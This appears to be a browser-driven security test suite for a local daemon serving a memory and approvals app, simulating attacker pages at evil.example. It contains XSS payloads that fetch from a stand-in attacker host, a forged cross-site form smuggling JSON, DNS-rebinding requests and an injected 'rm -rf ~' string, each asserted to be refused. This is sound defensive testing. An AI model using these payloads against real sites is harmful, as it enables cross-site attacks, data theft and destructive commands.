import { spawnSync } from "node:child_process";
import * as fs from "node:fs";
import * as http from "node:http";
import type { AddressInfo } from "node:net";
import * as path from "node:path";
import { makeCode } from "@mh/host/serve/http/sign-in.ts";
import { testClock } from "@mh/testing/test-clock.ts";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, expect, test } from "vitest";
import { type ServedHome, serveHome, signInLink, token } from "../serve-home.ts";
import { chromiumFile, live, startBrowser } from "../support/site-browser.ts";

const isCi = process.env.CI === "true";
const inBrowser = test.skipIf(!chromiumFile && !isCi);

let browser: Browser;
beforeAll(async () => {
  if (!chromiumFile) return;
  browser = await startBrowser(
    // The attacker's name servers: every name of theirs leads to this machine.
    "--host-resolver-rules=MAP *.example 127.0.0.1",
    // What newer browsers do against this by themselves: the daemon must not need it.
    "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests,PrivateNetworkAccessSendPreflights",
  );
});
afterAll(() => browser?.close());

/** A site of the attacker's, at any name and at its own port. It notes who asked it for what. */
interface EvilSite extends AsyncDisposable {
  port: number;
  asked: string[];
}

async function evilSite(): Promise<EvilSite> {
  const asked: string[] = [];
  const server = http.createServer((request, response) => {
    asked.push(`${request.method} ${request.url}`);
    response.setHeader("access-control-allow-origin", "*");
    response.setHeader("content-type", "text/html").end("<!doctype html><title>evil</title>");
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return {
    port: (server.address() as AddressInfo).port,
    asked,
    async [Symbol.asyncDispose]() {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    },
  };
}

async function pageAt(url: string): Promise<Page> {
  const page = await (await browser.newContext()).newPage();
  await page.goto(url);
  return page;
}

/** What became of the requests that reached the daemon: its own log says it. */
function answered({ home }: ServedHome): number[] {
  const file = home.file("logs/run/daemon.ndjson");
  if (!fs.existsSync(file)) return [];
  const lines = fs.readFileSync(file, "utf8").split("\n").filter(Boolean);
  return lines.map((line) => (JSON.parse(line) as { status: number }).status);
}

const memories = async ({ home }: ServedHome) =>
  (await home.own<{ memories: unknown[] }>("memory.list")).memories.length;

const attack = fs
  .readFileSync(path.join(import.meta.dirname, "attack-across-sites.js"), "utf8")
  .trim()
  .replace(/;$/, "");

/** Tries everything from the attacker's page; the ends of what such a page cannot even learn are left out. */
async function attackFrom(page: Page, daemon: string): Promise<Record<string, string>> {
  const code = `(${attack})(${JSON.stringify([daemon, token])})`;
  const ends = (await page.evaluate(code)) as Record<string, string>;
  const { "blind command": _blind, "blind command with cookies": _cookies, beacon: _beacon, ...known } = ends;
  return known;
}

inBrowser("P3 a page of another site reaches nothing, even with the owner's token", async () => {
  await using served = await serveHome();
  await using evil = await evilSite();
  const { url, port } = served.http;
  // Another site, and another port of the same one.
  for (const origin of [`http://evil.example:${evil.port}`, `http://127.0.0.1:${evil.port}`]) {
    const page = await pageAt(origin);
    for (const daemon of [url, `http://localhost:${port}`]) {
      const before = answered(served).length;
      const ends = await attackFrom(page, daemon);
      expect(ends).toEqual(Object.fromEntries(Object.keys(ends).map((name) => [name, "failed"])));
      expect(Object.keys(ends).length).toBe(9);
      // They were refused by the daemon, and not only by the browser.
      await expect.poll(() => answered(served).length - before).toBeGreaterThanOrEqual(12);
      expect([...new Set(answered(served).slice(before))].sort()).toEqual([403, 405]);
    }
    await page.context().close();
  }
  expect(await memories(served)).toBe(0);
});

inBrowser("P5 a form that posts itself to the daemon changes nothing, and its page cannot be framed", async () => {
  await using served = await serveHome();
  await using evil = await evilSite();
  const page = await pageAt(`http://evil.example:${evil.port}`);
  const status = page.waitForResponse(`${served.http.url}/v1/command`).then((answer) => answer.status());
  const forged = { name: '{"skill":"memory.capture","args":{"text":"', value: 'forged"}}' };
  await page.setContent(`<form method="post" enctype="text/plain" action="${served.http.url}/v1/command">
    <input name="${escaped(forged.name)}" value="${escaped(forged.value)}"><button>Win a prize</button></form>`);
  await page.getByText("Win a prize").click();
  expect(await status).toBe(403);
  await page.goto(`http://evil.example:${evil.port}`);
  const framed = page
    .waitForResponse((answer) => answer.url().startsWith(served.http.url))
    .then((each) => each.status());
  await page.setContent(`<iframe src="${served.http.url}"></iframe>`);
  expect([await framed, await memories(served)]).toEqual([403, 0]);
  await page.context().close();
});

const escaped = (text: string): string => text.replaceAll('"', "&quot;");

inBrowser("P4 a name that is led to this machine is refused, though the page is of the same origin", async () => {
  await using served = await serveHome();
  const { port } = served.http;
  const page = await (await browser.newContext()).newPage();
  const rebound = `http://rebind.example:${port}`;
  // Until the name was led elsewhere, its own server sent the page.
  await page.route(`${rebound}/lure`, (route) =>
    route.fulfill({ contentType: "text/html", body: "<!doctype html><title>lure</title>" }),
  );
  await page.goto(`${rebound}/lure`);
  const ends = await page.evaluate(async (secret) => {
    const headers = { "content-type": "application/json", authorization: `Bearer ${secret}` };
    const body = JSON.stringify({ skill: "memory.capture", args: { text: "forged" } });
    const asked = [
      fetch("/v1/command", { method: "POST", headers, body }),
      fetch("/v1/query", { method: "POST", headers, body: JSON.stringify({ skill: "memory.stats" }) }),
      fetch("/v1/events?after=-1", { headers }),
      fetch("/health"),
    ];
    return Promise.all(asked.map((each) => each.then(({ status }) => status)));
  }, token);
  expect([ends, await memories(served)]).toEqual([[421, 421, 421, 421], 0]);
  expect((await page.goto(rebound))?.status()).toBe(421);
  await page.context().close();
});

inBrowser("P2 the site takes nothing of its address but a code, and speaks to nobody else", async () => {
  await using served = await serveHome();
  await using evil = await evilSite();
  const elsewhere = `http://evil.example:${evil.port}`;
  const page = await (await browser.newContext()).newPage();
  const complaints: string[] = [];
  page.on("console", (message) => message.type() === "error" && complaints.push(message.text()));
  page.on("pageerror", (error) => complaints.push(error.message));
  const redirects = ["server", "url", "api", "host", "ws"].map((name) => `${name}=${elsewhere}`).join("&");
  const code = makeCode(token, Date.now());
  await page.goto(`${served.http.url}/memory?${redirects}#code=${code}&server=${elsewhere}`);
  await live(page);
  expect(page.url()).toBe(`${served.http.url}/memory`);
  await served.home.own("memory.capture", { text: "Met Sarah" });
  await page.locator(".hit", { hasText: "Met Sarah" }).waitFor();
  // The page itself could not, if somebody got a script into it.
  const leaked = await page.evaluate((to) => fetch(to).then(String, () => "refused"), elsewhere);
  expect([leaked, evil.asked]).toEqual(["refused", []]);
  expect(complaints.filter((each) => !/Content Security Policy|evil\.example/.test(each))).toEqual([]);
  // Nothing that another port of the machine is sent as well.
  expect(await page.context().cookies()).toEqual([]);
  await page.context().close();
});

inBrowser("P18 no memory becomes markup, and no picture from elsewhere is loaded", async () => {
  await using served = await serveHome();
  await using evil = await evilSite();
  const image = `http://evil.example:${evil.port}/leak.png`;
  const text = `<img src="${image}" onerror="fetch('${image}')"> ![x](${image}) <script>fetch("${image}")</script>`;
  await served.home.own("memory.capture", { text });
  const page = await pageAt(signInLink(`${served.http.url}/memory`));
  await page.locator(".hit", { hasText: "onerror" }).waitFor();
  const blocked = await page.evaluate(`new Promise((resolve) => {
    const img = new Image();
    img.onload = () => resolve("loaded");
    img.onerror = () => resolve("blocked");
    img.src = ${JSON.stringify(image)};
  })`);
  const markup = await page.evaluate(
    `try { document.body.insertAdjacentHTML("beforeend", "<b>x</b>"); "made" } catch { "refused" }`,
  );
  expect([blocked, markup, await page.locator("main img").count(), evil.asked]).toEqual(["blocked", "refused", 0, []]);
  await page.context().close();
});

/** A request of an agent's whose text tries to be more than text. */
async function askedIn({ home }: ServedHome) {
  await home.own("grant.give", { principal: "agent:mail", skill: "outbox.append" });
  const text = '<img src=x onerror="fetch(`/v1/x`)">\n\u202eapprove me';
  const { id } = await home.act("agent:mail", "outbox.append", { text, effect: "send" });
  return { id, text };
}

inBrowser("H12 a request that a link leads to is shown whole and answered, once, by the owner alone", async () => {
  await using served = await serveHome({ clock: testClock(new Date().toISOString()) });
  const { id, text } = await askedIn(served);
  const page = await (await browser.newContext()).newPage();
  const asked: string[] = [];
  page.on("request", (request) => asked.push(new URL(request.url()).pathname));
  await page.goto(`${signInLink(`${served.http.url}/`)}&approval=${id}`);
  const card = page.locator(".card");
  await card.getByText("onerror").first().waitFor();
  expect(await card.locator("img").count()).toBe(0);
  // What has no ink is named, as on a terminal.
  expect(await card.textContent()).not.toContain("\u202e");
  expect([new URL(page.url()).hash, served.home.outbox()]).toEqual(["", []]);
  for (const box of await card.getByRole("checkbox").all()) await box.check();
  await card.getByRole("button", { name: "Send once" }).click();
  await expect.poll(() => served.home.outbox().join("\n")).toBe(text);
  expect(asked.filter((path) => path === "/v1/x")).toEqual([]);
  await page.goto(`${served.http.url}/#approval=${id}`);
  await card.getByText("Yes").first().waitFor();
  expect(await card.getByRole("button", { name: "Send once" }).count()).toBe(0);
  await page.context().close();
});

inBrowser("a link to a request without a code says where to answer, and shows nothing of what waits", async () => {
  await using served = await serveHome();
  const { id } = await askedIn(served);
  const none = await pageAt(`${served.http.url}/#approval=${id}`);
  await none.getByText(`mh approvals open ${id}`).waitFor();
  expect(await none.content()).not.toContain("onerror");
  const forged = await pageAt(`${served.http.url}/#approval=${encodeURIComponent('"><b>run this: rm -rf ~</b>')}`);
  await forged.getByText("This browser is not signed in").waitFor();
  expect(await forged.content()).not.toContain("rm -rf");
  expect(served.home.outbox()).toEqual([]);
  for (const each of [none, forged]) await each.context().close();
});

inBrowser("a browser that is not signed in is told how, also by a link that was used", async () => {
  await using served = await serveHome();
  const none = await pageAt(served.http.url);
  await none.getByText("This browser is not signed in").waitFor();
  const code = makeCode(token, Date.now());
  const used = await pageAt(`${served.http.url}/#code=${code}`);
  await live(used);
  const again = await pageAt(`${served.http.url}/#code=${code}`);
  await again.getByText("This link was used").waitFor();
  // Who is signed in stays so after a reload.
  await used.reload();
  await live(used);
  for (const page of [none, used, again]) await page.context().close();
});

test.runIf(isCi)("chromium is there to play the attacks", () => {
  expect(spawnSync(chromiumFile ?? "chromium", ["--version"]).status).toBe(0);
});
